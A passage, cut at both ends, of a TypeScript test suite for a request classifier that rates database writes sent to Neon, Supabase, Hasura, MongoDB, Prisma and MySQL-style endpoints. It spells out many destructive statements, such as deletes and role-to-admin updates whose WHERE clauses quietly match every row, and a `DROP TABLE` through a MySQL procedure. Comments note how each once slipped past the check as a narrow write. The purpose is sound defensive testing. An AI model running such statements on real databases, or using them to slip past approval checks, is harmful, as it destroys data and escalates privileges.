  const every = ['{id: {_ceq: "id"}}', '{id: {_cgte: ["$", "id"]}}', '{name: {_regex: "a*"}}', '{name: {_iregex: "|"}}', '{name: {_similar: "%|x"}}', '{_not: {id: {_lt: -1000000000000}}}', '{name: {_is_null: "false"}}', '{data: {_has_keys_all: []}}', '{posts_aggregate: {count: {predicate: {_gte: 0}}}}', '{_not: {id: {_in: []}}}', '{_or: [{id: {_gt: 5}}, {id: {_lte: 5}}]}', '{id: {_eq: null}}', '{author: {name: {_nregex: "zz"}}}'];
  const json = (w: string): unknown => JSON.parse(w.replace(/([{,]\s*)([$\w]+):/g, '$1"$2":'));
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...every), fc.constantFrom('inline', 'variable', 'query-api'), fc.boolean(), async (where, place, update) => {
      let url = `https://${SQL_HOST}/v1/graphql`;
      let body: string;
      if (place === 'query-api') {
        url = `https://${SQL_HOST}/v2/query`;
        body = JSON.stringify({ type: update ? 'update' : 'delete', args: { table: { schema: 'public', name: 'users' }, where: json(where), ...(update ? { $set: { role: 'admin' } } : {}) } });
      } else {
        const w = place === 'variable' ? '$w' : where;
        const field = update ? `update_users(where: ${w}, _set: {role: "admin"})` : `delete_users(where: ${w})`;
        const query = place === 'variable' ? `mutation($w: users_bool_exp!) { ${field} { affected_rows } }` : `mutation { ${field} { affected_rows } }`;
        body = JSON.stringify(place === 'variable' ? { query, variables: { w: json(where) } } : { query });
      }
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // Controls: conditions that name the rows touched stay narrow, as their SQL twins do.
  for (const where of ['{id: {_ceq: "owner_id"}}', '{name: {_similar: "a%"}}', '{name: {_regex: "^a"}}', '{_not: {id: {_lt: 5}}}', '{id: {_in: []}}', '{id: {_in: [1, 2]}}', '{posts_aggregate: {count: {predicate: {_eq: 3}}}}', '{geom: {_st_intersects: "x"}}', '{author: {name: {_eq: "x"}}}', '{name: {_eq: "O\'Brien"}}', '{_and: [{id: {_gt: 5}}, {id: {_lt: 9}}]}']) {
    const body = JSON.stringify({ query: `mutation { delete_users(where: ${where}) { affected_rows } }` });
    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-first pass: a SIMILAR TO pattern every string matches holds for every row', async (t) => {
  // Only patterns of `%()*+?|` alone were taken to match anything: `'%|x'` (real PostgreSQL matches
  // '', 'b' and a line break with each of these) was a narrow delete on Supabase and Neon.
  for (const pattern of ['%|x', '(%|a)', '_*', '%(a)*', '[%]%|%', '(a|%)', '%|', 'x*%']) {
    for (const url of [SUPABASE, NEON]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE email SIMILAR TO '${pattern}'` }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${pattern}`);
    }
  }
  for (const pattern of ['a%', '%a%', '[ab]%', '%.%', '(a|b)%', '_%', '%@example.com']) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE email SIMILAR TO '${pattern}'` }) });
    t.equal(decision.approval?.risk, 'medium', pattern);
  }
});

t.test('twenty-first pass: a Hasura insert that updates the rows it conflicts with is judged as the upsert it runs', async (t) => {
  // `insert_users(objects: […], on_conflict: {constraint: users_pkey, update_columns: [role]})` was a
  // narrow insert, while the same call to the query API and its SQL twin (`ON CONFLICT DO UPDATE`) overwrite rows.
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('insert_users(objects: [$o]', 'insert_users_one(object: $o'), fc.constantFrom('[role]', 'role', '[role, email]'), fc.boolean(), async (field, columns, byVariable) => {
      const conflict = byVariable ? '$c' : `{constraint: users_pkey, update_columns: ${columns}}`;
      const query = `mutation($o: users_insert_input!${byVariable ? ', $c: users_on_conflict' : ''}) { ${field}, on_conflict: ${conflict}) { __typename } }`;
      const variables = { o: { id: 1, role: 'admin' }, ...(byVariable ? { c: { constraint: 'users_pkey', update_columns: columns.replace(/[[\]\s]/g, '').split(',') } } : {}) };
      const body = JSON.stringify({ query, variables });
      const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // A nested insert's own conflict clause overwrites the related rows.
  const nested = JSON.stringify({ query: 'mutation { insert_users(objects: [{id: 1, posts: {data: [{id: 7, body: "x"}], on_conflict: {constraint: posts_pkey, update_columns: [body]}}}]) { affected_rows } }' });
  t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: nested })).decision.approval?.risk, 'critical', 'a nested upsert');
  // Controls: an insert without `on_conflict`, or one that updates nothing on a conflict (DO NOTHING), stays a narrow write.
  for (const args of ['objects: [{id: 1}]', 'objects: [{id: 1}], on_conflict: {constraint: users_pkey, update_columns: []}']) {
    const body = JSON.stringify({ query: `mutation { insert_users(${args}) { affected_rows } }` });
    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', args);
  }
});

t.test('twenty-first pass: values bound to PostgreSQL\'s own operators are judged with the statement', async (t) => {
  // `DELETE FROM users WHERE email ILIKE $1` with `["%%"]` (also `~ $1` with `"a*"`, `~* $1` with
  // `""`, `SIMILAR TO $1` with `"%|x"`, `LIKE ANY($1)` with `[["%"]]`, `id::text LIKE $1`) was a narrow
  // write on Neon and Supabase: only SQLite's sample run bound the values, and it has none of these
  // operators; the same statements with the values written in are destructive.
  const pairs: Array<[string, unknown]> = [['email ILIKE $1', '%%'], ['email ~ $1', 'a*'], ['email ~* $1', ''], ['email SIMILAR TO $1', '%|x'], ['email LIKE ANY($1)', ['%']], ['email ILIKE ANY($1::text[])', ['a%', '%']], ['id::text LIKE $1', '%'], ['email ~ $1 OR id = $2', '^'], ['lower(email) ~~* $1', '%']];
  const places: Array<[string, (sql: string, params: unknown[]) => string]> = [
    [NEON, (sql, params) => JSON.stringify({ query: sql, params })],
    [SUPABASE, (sql, parameters) => JSON.stringify({ query: sql, parameters })],
    [GENERIC, (sql, params) => JSON.stringify({ sql, params })],
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...pairs), fc.constantFrom(...places), fc.boolean(), async ([where, value], [url, body], update) => {
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const params = where.includes('$2') ? [value, 5] : [value];
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(sql, params) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql} ${JSON.stringify(params)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // Controls: values that name the rows touched stay narrow; reads stay reads.
  for (const [sql, params] of [['DELETE FROM users WHERE email ILIKE $1', ['a%']], ['DELETE FROM users WHERE email ~ $1', ['^a']], ['DELETE FROM users WHERE id = ANY($1)', [[1, 2]]], ['DELETE FROM users WHERE email LIKE ANY($1)', [['a%', 'b%']]], ['DELETE FROM users WHERE id = $1 AND email ILIKE $2', [5, '%']], ['DELETE FROM users WHERE email = $1', ["o'brien\\x"]]] as Array<[string, unknown[]]>) {
    t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql, params }) })).decision.approval?.risk, 'medium', `${sql} ${JSON.stringify(params)}`);
  }
  t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT * FROM users WHERE email ILIKE $1', params: ['%'] }) })).decision.action, 'allow', 'a read');
});

// PostgreSQL's own functions, operators and casts a WHERE may hold for every row through, each
// spelled with an empty string (`''`, `repeat('x', 0)` …) or a `%` (`chr(37)` …) in its place.
const emptyText = ["''", "''::text", "CAST('' AS text)", "repeat('x', 0)", "left('abc', 0)", "lower('')", "E''", '$$$$'];
const anyPattern = ['chr(37)', "repeat('%', 2)", "'%' || ''", "concat('%', '')", "lpad('%', 1)", "(chr(37))::text", "format('%%')"];
const everyRowFns: Array<(c: string, e: string, p: string) => string> = [
  (c, e) => `starts_with(${c}, ${e})`,
  (c, e) => `${c} ^@ ${e}`,
  (c, e) => `${c}::text ^@ ${e}`,
  (c, e) => `strpos(${c}, ${e}) > 0`,
  (c, e) => `strpos(${c}, ${e}) = 1`,
  (c, e) => `position(${e} in ${c}) = 1`,
  (c, e) => `position(${e} in ${c}) >= 1`,
  (c, _e, p) => `${c} LIKE ${p}`,
  (c, _e, p) => `${c} ILIKE ${p}`,
  (c, _e, p) => `${c} ~~ (${p})`,
  (c, _e, p) => `${c} LIKE ANY (ARRAY['a%', ${p}])`,
  () => 'greatest(id, 0) >= 0',
  () => 'num_nonnulls(id) >= 0',
  () => 'num_nulls(email) = 0',
  () => 'id::bool',
  () => 'id::boolean = true',
  () => 'id >= ALL(ARRAY[]::int[])',
  () => "created_at < greatest(now(), 'infinity'::timestamptz)",
];
const everyRowShapes: Array<(w: string) => string> = [(w) => w, (w) => `(${w}) = true`, (w) => `(${w}) IS TRUE`, (w) => `${w} OR id = 5`, (w) => `coalesce(${w}, true)`];
const everyRowColumns = ['email', 'users.email', '"email"'];

t.test('twenty-first pass (follow-up): a WHERE only PostgreSQL can evaluate is not proven narrow', async (t) => {
  // `DELETE FROM users WHERE starts_with(email, '')` (`email ^@ ''`, `strpos(email, '') > 0`,
  // `greatest(id, 0) >= 0`, `LIKE chr(37)`, `id::bool` …) was a narrow write on Neon and Supabase:
  // SQLite's sample run has none of these and failed, and PostgreSQL's reading took any WHERE that
  // was no OR or range for narrow. Only forms whose reach the data decides are proven narrow now.
  const places: Array<[string, (sql: string) => string]> = [
    [NEON, (sql) => JSON.stringify({ query: sql, params: [] })],
    [SUPABASE, (sql) => JSON.stringify({ query: sql })],
    [GENERIC, (sql) => JSON.stringify({ sql })],
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...everyRowFns), fc.constantFrom(...emptyText), fc.constantFrom(...anyPattern), fc.constantFrom(...everyRowShapes), fc.constantFrom(...everyRowColumns), fc.constantFrom(...places), fc.boolean(), async (fn, empty, pct, shape, col, [url, body], update) => {
      const where = shape(fn(col, empty, pct));
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(sql) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 60), ...seed },
  );
  // A bound empty prefix is the same write; a bound prefix that names something is narrow.
  t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DELETE FROM users WHERE email ^@ $1', params: [''] }) })).decision.approval?.risk, 'critical', 'a bound empty prefix');
  // Controls: conditions the data decides stay narrow, as before.
  const controls: Array<[string, unknown[]]> = [
    ['id = 5', []], ["email = 'a@b'", []], ['id IN (1, 2)', []], ["created_at < now() - interval '30 days'", []], ['expires_at < now()', []],
    ['created_at < CURRENT_DATE - 7', []], ['id = ANY($1)', [[1, 2]]], ['id = $1::uuid', ['6f1c0f62-0000-4000-8000-000000000000']], ['email = lower($1::text)', ['A@B']],
    ["starts_with(email, 'adm')", []], ["email ^@ 'adm'", []], ['email ^@ $1', ['adm']], ['data @> \'{"a": 1}\'', []], ["tags @> ARRAY['x']", []],
    ["id = 5 AND email ^@ ''", []], ["id::text = '5'", []], ['id IS NOT DISTINCT FROM $1::int', [5]], ['tenant_id = $1::uuid AND created_at < now()', ['6f1c0f62-0000-4000-8000-000000000000']], ['active', []],
  ];
  for (const [where, params] of controls) {
    for (const url of [NEON, SUPABASE]) {
      const body = url === NEON ? { query: `DELETE FROM users WHERE ${where}`, params } : { query: `DELETE FROM users WHERE ${where}`, parameters: params };
      t.equal((await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) })).decision.approval?.risk, 'medium', `${url} ${where}`);
    }
  }
});

t.test('twenty-first pass (follow-up): on a real PostgreSQL, each such WHERE holds for every row', { skip: missingPostgres() }, async (t) => {
  const pg = await startPostgres(t);
  const client = new pgLib.Client({ connectionString: pg.url() });
  await client.connect();
  t.teardown(() => client.end());
  await client.query(`CREATE TABLE users (id int NOT NULL, email text NOT NULL, role text, created_at timestamptz NOT NULL DEFAULT now());
    INSERT INTO users (id, email) VALUES (1, 'a@b.example'), (2, ''), (3, 'Ünï@x'), (4, E'line\nbreak'), (7, '%_\\'), (1000000, 'z')`);
  const wheres = new Set<string>();
  for (const fn of everyRowFns) for (const empty of emptyText) for (const pct of anyPattern) for (const shape of everyRowShapes) wheres.add(shape(fn('email', empty, pct)));
  // Each condition as a column of one query per hundred: true when it held for each of the six rows.
  const all = [...wheres];
  let checked = 0;
  for (let i = 0; i < all.length; i += 100) {
    const batch = all.slice(i, i + 100);
    const { rows } = await client.query(`SELECT ${batch.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')}, count(*)::int AS total FROM users`);
    batch.forEach((w, j) => {
      if (rows[0][`c${j}`] !== rows[0].total || rows[0].total !== 6) t.fail(`${w}: ${rows[0][`c${j}`]} of ${rows[0].total}`);
      else checked++;
    });
  }
  t.equal(checked, all.length, `${checked} conditions each matched every row`);
});

t.test('twenty-second pass: MySQL\'s `||` is OR, so a WHERE that ORs in a true value is every row on an endpoint of unknown dialect', async (t) => {
  // MySQL and MariaDB (default sql_mode, no PIPES_AS_CONCAT) read `||` as OR: `DELETE FROM users
  // WHERE id > 100 || 1` deleted every row of a real MariaDB 10.11, while PostgreSQL's and SQLite's
  // reading (concatenation: `id > '1001'`) left it a narrow medium write. The MySQL-family server an
  // unknown endpoint may be (PlanetScale, TiDB, a MySQL tunnel) is read with `||` as OR too.
  const narrow = fc.constantFrom('id > 100', 'id = 9', "email = 'a@b'", 'id IN (1, 2)');
  const truthy = fc.constantFrom('1', 'TRUE', '1 = 1', "'1'", 'NOT FALSE', '2 > 1', 'id = id');
  const spacing = fc.constantFrom('||', ' || ', '||\n', ' /* x */ || ');
  await fc.assert(
    fc.asyncProperty(narrow, truthy, spacing, fc.boolean(), fc.constantFrom('sql', 'query'), async (w, tv, op, update, key) => {
      const where = `${w}${op}${tv}`;
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // Controls: concatenation outside a WHERE, in a string or a comment, and a narrow OR stay medium;
  // PostgreSQL's own endpoints read `||` as PostgreSQL does.
  for (const sql of ["UPDATE users SET name = first || ' ' || last WHERE id = 5", "DELETE FROM users WHERE email = 'a || 1'", 'DELETE FROM users WHERE id = 5 -- || 1', 'DELETE FROM users WHERE id = 5 OR id = 6', "SELECT 'a' || 'b'"]) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
  }
  const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "DELETE FROM users WHERE id > 100 || 1", params: [] }) });
  t.equal(decision.approval?.risk, 'medium', 'Neon: PostgreSQL\'s concatenation');
});

t.test('twenty-second pass: MySQL\'s sys.execute_prepared_stmt runs the statement text it is given', async (t) => {
  // `CALL sys.execute_prepared_stmt('DELETE FROM d.users')` emptied a real MariaDB 10.11's table (the
  // sys schema prepares and runs the text) and was a medium CALL on an endpoint of unknown dialect.
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('sys.execute_prepared_stmt', 'execute_prepared_stmt', '`sys`.`execute_prepared_stmt`', 'SYS.EXECUTE_PREPARED_STMT'), fc.constantFrom("'DROP TABLE users'", '"DELETE FROM users"', "CONCAT('DELETE ', 'FROM users')", '@s'), async (proc, arg) => {
      const sql = `CALL ${proc}(${arg})`;
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 16), ...seed },
  );
  // Control: another sys procedure is an ordinary CALL.
  const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: "CALL sys.table_exists('d', 'users', @x)" }) });
  t.equal(decision.approval?.risk, 'medium', 'sys.table_exists');
});

t.test('twenty-second pass: MongoDB filters with operators and Prisma ranges are read as the conditions they are', async (t) => {
  // Left open by the twenty-first pass: any operator in a MongoDB filter was unread, so
  // `deleteMany({age: {$gt: 65}})` (Data API and wire protocol alike) was held as every document;
  // and the twins named fields as `"age"`, which SQLite's reading of double-quoted strings takes for
  // the text 'age' (after every number), so Prisma's `{age: {gt: 65}}` was held critical too.
  const narrow = fc.constantFrom<Record<string, unknown>>(
    { age: { $gt: 65 } }, { age: { $gte: 18, $lt: 21 } }, { createdAt: { $lt: { $date: '2020-01-01T00:00:00Z' } } }, { email: { $regex: '@example\\.com$' } },
    { email: { $regex: '^adm', $options: 'i' } }, { $or: [{ _id: 1 }, { _id: 2 }] }, { status: 'tmp', age: { $lte: 3 } }, { $and: [{ a: 1 }, { b: { $in: [1, 2] } }] },
    { tenant_id: 7, score: { $lt: 10 } }, { 'profile.age': { $gt: 65 } }, { order: { $lt: 3 } },
  );
  const every = fc.constantFrom<Record<string, unknown>>(
    {}, { age: { $gt: -1e12 } }, { email: { $regex: '' } }, { email: { $regex: '.*' } }, { a: { $nin: [] } }, { a: { $not: { $in: [] } } },
    { $or: [{ a: 1 }, { a: { $ne: 1 } }] }, { $nor: [{ a: 5 }] }, { a: { $ne: null } }, { tags: { $size: 0 } }, { $where: 'true' }, { a: { $exists: true } },
    { 'profile.age': { $gt: -1e12 } }, { $jsonSchema: {} }, { email: { $regex: ' .* ', $options: 'x' } },
  );
  const dataApi = (action: string, filter: unknown): Promise<Decided> =>
    decide({ url: `https://${SQL_HOST}/app/data-abc/endpoint/data/v1/action/${action}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ dataSource: 'Cluster0', database: 'app', collection: 'users', filter, ...(action === 'updateMany' ? { update: { $set: { role: 'admin' } } } : {}) }) });
  await fc.assert(
    fc.asyncProperty(narrow, fc.constantFrom('deleteMany', 'updateMany'), async (filter, action) => {
      const { decision } = await dataApi(action, filter);
      if (decision.approval?.risk !== 'medium') throw new Error(`${action} ${JSON.stringify(filter)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 18), ...seed },
  );
  await fc.assert(
    fc.asyncProperty(every, fc.constantFrom('deleteMany', 'updateMany'), async (filter, action) => {
      const { decision } = await dataApi(action, filter);
      if (decision.approval?.risk !== 'critical') throw new Error(`${action} ${JSON.stringify(filter)}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Prisma's ranges: narrow as their SQL twins; a range past every row still every row.
  const prisma = (where: unknown): Promise<Decided> => decide({ url: `https://${SQL_HOST}/prisma`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ modelName: 'User', action: 'deleteMany', query: { arguments: { where }, selection: { count: true } } }) });
  t.equal((await prisma({ age: { gt: 65 } })).decision.approval?.risk, 'medium', 'Prisma age > 65');
  t.equal((await prisma({ age: { gt: -1e12 } })).decision.approval?.risk, 'critical', 'Prisma age > -1e12');
  t.equal((await prisma({ order: { lt: 3 } })).decision.approval?.risk, 'medium', 'Prisma: a field named by a reserved word');
});

/** PostgreSQL system columns compared with one value: every row of a table (or none). */
const systemColumnWheres = [
  "tableoid = 'users'::regclass", "users.tableoid = 'users'::regclass", "tableoid::regclass::text = 'users'", "tableoid::regclass = 'public.users'::regclass",
  'tableoid > 0', "tableoid <> 'pg_class'::regclass", 'xmax = 0', "xmax::text = '0'", 'users.xmax = 0', "ctid > '(0,0)'", "ctid < '(4294967295,65535)'",
];

t.test('twenty-second pass: a PostgreSQL system column many rows share is no column that names rows', async (t) => {
  // `DELETE FROM users WHERE tableoid = 'users'::regclass` (also `xmax = 0`, `cmin::text = '0'`)
  // deleted every row of a real PostgreSQL 15 and was a narrow medium write on Neon and Supabase:
  // the reader took the system column for a column equal to one value.
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...systemColumnWheres), fc.constantFrom(NEON, SUPABASE), fc.boolean(), fc.boolean(), async (where, url, update, orEquality) => {
      const w = orEquality ? `id = 5 OR ${where}` : where;
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${w}` : `DELETE FROM users WHERE ${w}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : { query: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // `tableoid` on an endpoint of unknown dialect and on D1 too; a table of its own with `xmin`/`xmax`
  // columns (SQLite and MySQL allow them) keeps its narrow writes there.
  for (const url of [GENERIC, D1]) {
    const body = (sql: string): string => JSON.stringify({ sql });
    t.equal((await decide({ url, headers: [['Content-Type', 'application/json']], body: body("DELETE FROM users WHERE tableoid = 'users'::regclass") })).decision.approval?.risk, 'critical', `${url}: tableoid`);
    t.equal((await decide({ url, headers: [['Content-Type', 'application/json']], body: body('DELETE FROM tiles WHERE xmin = 5') })).decision.approval?.risk, 'medium', `${url}: a column of its own named xmin`);
  }
  // Controls: an AND with an equality, `ctid` (one row), a plain equality stay narrow.
  for (const where of ["tableoid = 'users'::regclass AND id = 5", "ctid = '(0,1)'", 'id = 5']) {
    // (A range over `ctid` is where rows are stored: every row there; its equality names one row.)
    t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE ${where}`, params: [] }) })).decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-second pass: on a real PostgreSQL, each such system-column WHERE holds for every row', { skip: missingPostgres() }, async (t) => {
  const pg = await startPostgres(t);
  const client = new pgLib.Client({ connectionString: pg.url() });
  await client.connect();
  t.teardown(() => client.end());
  await client.query(`CREATE TABLE users (id int NOT NULL, email text); INSERT INTO users VALUES (1, 'a'), (2, 'b'); INSERT INTO users VALUES (3, 'c')`);
  const { rows } = await client.query(`SELECT ${systemColumnWheres.map((w, j) => `count(*) FILTER (WHERE ${w})::int AS c${j}`).join(', ')} FROM users`);
  systemColumnWheres.forEach((w, j) => t.equal(rows[0][`c${j}`], 3, w));
});

/** Bounds PostgreSQL reads past every value of a number, date or text column. */
const pastEveryValue = ["score < 'Infinity'", "score > '-inf'", "score <= '+Infinity'", "score < 'NaN'", "amount < 'NaN'", "amount < 'Infinity'", "created_at < 'infinity'", "created_at > '-infinity'", "email >= ''", "'' <= email",
  // PostgreSQL's `.` crosses a line break: these match every string, a multi-line one too.
  "email ~ '^.*$'", "email ~* '^(.*)$'", "email ~ '^.+$|^$'"];

t.test('twenty-second pass: a range bound PostgreSQL reads past every value holds for every row, as does a pattern whose `.` crosses line breaks', async (t) => {
  // `DELETE FROM users WHERE score < 'Infinity'` (also `> '-inf'`, `< 'NaN'`, which sorts above
  // every number, `email >= ''`) on Neon and Supabase was a narrow medium write: the bound was a text
  // to SQLite's sample run, which sorts it among the sample strings.
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...pastEveryValue), fc.constantFrom(NEON, SUPABASE), fc.boolean(), async (where, url, update) => {
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : { query: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  for (const where of ['score < 100', "created_at < now() - interval '1 day'", "email >= 'm'", "name = 'inf'", "email ~ '^a.*$'"]) {
    t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE ${where}`, params: [] }) })).decision.approval?.risk, 'medium', where);
  }
});

/** Ranges of a column against a number at or past int8's bounds, on the side that takes every integer. */
const pastEveryInteger = ['id < 1e30', 'id <= 9223372036854775807', '9223372036854775807 >= id', 'id < 1e19::numeric', "id < '1e30'", 'id BETWEEN -1e20 AND 1e20', 'id >= -9223372036854775808', 'n < 18446744073709551616'];

/**
 * Twenty-fourth pass: the same bounds computed from constants (PostgreSQL's reading; hex and
 * underscores as PostgreSQL 16 writes them), and in MySQL's reading where the dialect is unknown
 * (`~0` is 18446744073709551615 there, `-1 >> 1` 2^63 - 1, `^` XOR, `CAST(-1 AS UNSIGNED)` 2^64 - 1;
 * each counted every row of a real MariaDB 10.11, checked by hand: the tests start no MariaDB).
 */
const computedPastEveryInteger = ['id < power(2, 64)', 'id <= 9223372036854775807 - 0', 'id <= 4611686018427387903 * 2 + 1', 'id < 10::numeric ^ 30', 'id >= -9223372036854775807 - 1', 'id < 1e300 * 1e300', 'id < 0x7FFFFFFFFFFFFFFF + 1', 'id <= 9_223_372_036_854_775_807'];
const mysqlPastEveryInteger = ['id < ~0', '~0 > id', 'id <= ~1', 'id < -1 >> 1', 'id < 1 << 63', 'id < CAST(-1 AS UNSIGNED)', 'id < -1 ^ 0', 'id < -1 | 0', 'id < POW(2, 64)', 'id < 0xFFFFFFFFFFFFFFFF'];

t.test('twenty-fourth pass: a bound computed past every integer, in PostgreSQL\'s reading and in MySQL\'s', async (t) => {
  const body = (url: string, sql: string): string => JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql });
  const cases = [...computedPastEveryInteger.flatMap((w) => [NEON, SUPABASE, GENERIC].map((u) => [w, u] as const)), ...mysqlPastEveryInteger.map((w) => [w, GENERIC] as const)];
  for (const [where, url] of cases) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, `DELETE FROM users WHERE ${where}`) });
    t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
  }
  // Controls: computed bounds below every integer's reach, MySQL's readings on PostgreSQL and
  // SQLite services (`~0` is -1 there), and an id computed to one value stay narrow.
  const controls: Array<[string, string]> = [['id < 1 << 62', GENERIC], ['id < 1000 * 1000', GENERIC], ['id = 5 - 0', GENERIC], ['id < 0x10', NEON], ['id < ~0', NEON], ['id < ~0', D1], ['id < -1 >> 1', NEON], ['id < 1 << 63', D1], ['id > power(2, 64)', NEON], ['ts < 17 * 100000000000000', NEON]];
  for (const [where, url] of controls) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, `DELETE FROM users WHERE ${where}`) });
    t.equal(decision.approval?.risk, 'medium', `${url} ${where}`);
  }
});

t.test('twenty-third pass: an upper bound at or past every integer holds for every row', async (t) => {
  // `DELETE FROM users WHERE id < 1e30` (also `<= 9223372036854775807`, a flipped side, a BETWEEN)
  // on Neon, Supabase and an endpoint of unknown dialect was a narrow medium write: SQLite's
  // sample strings sort above every number, so an upper bound never took every sample, while
  // every integer a column holds is below it (lower bounds past the samples were already held).
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...pastEveryInteger), fc.constantFrom(NEON, SUPABASE, GENERIC), fc.boolean(), async (where, url, update) => {
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 30), ...seed },
  );
  // The same bound by a parameter, in PostgREST's and pg_graphql's filters, in a MongoDB filter.
  const bound = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DELETE FROM users WHERE id < $1', params: ['1e30'] }) });
  t.equal(bound.decision.approval?.risk, 'critical', 'id < $1 with 1e30');
  const rest = await decide({ method: 'PATCH', url: 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/users?id=lt.1e30', headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
  t.equal(rest.decision.approval?.risk, 'critical', 'PostgREST id=lt.1e30');
  // Controls: cut-offs below int8's bounds (an epoch in microseconds, an id) stay narrow.
  for (const where of ['ts < 1700000000000000', 'id < 1000000', 'amount <= 99999999', 'id > 1e30', 'n BETWEEN 1 AND 1e20', 'id BETWEEN 2 AND 1e20', 'id < $1']) {
    const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE ${where}`, params: [] }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
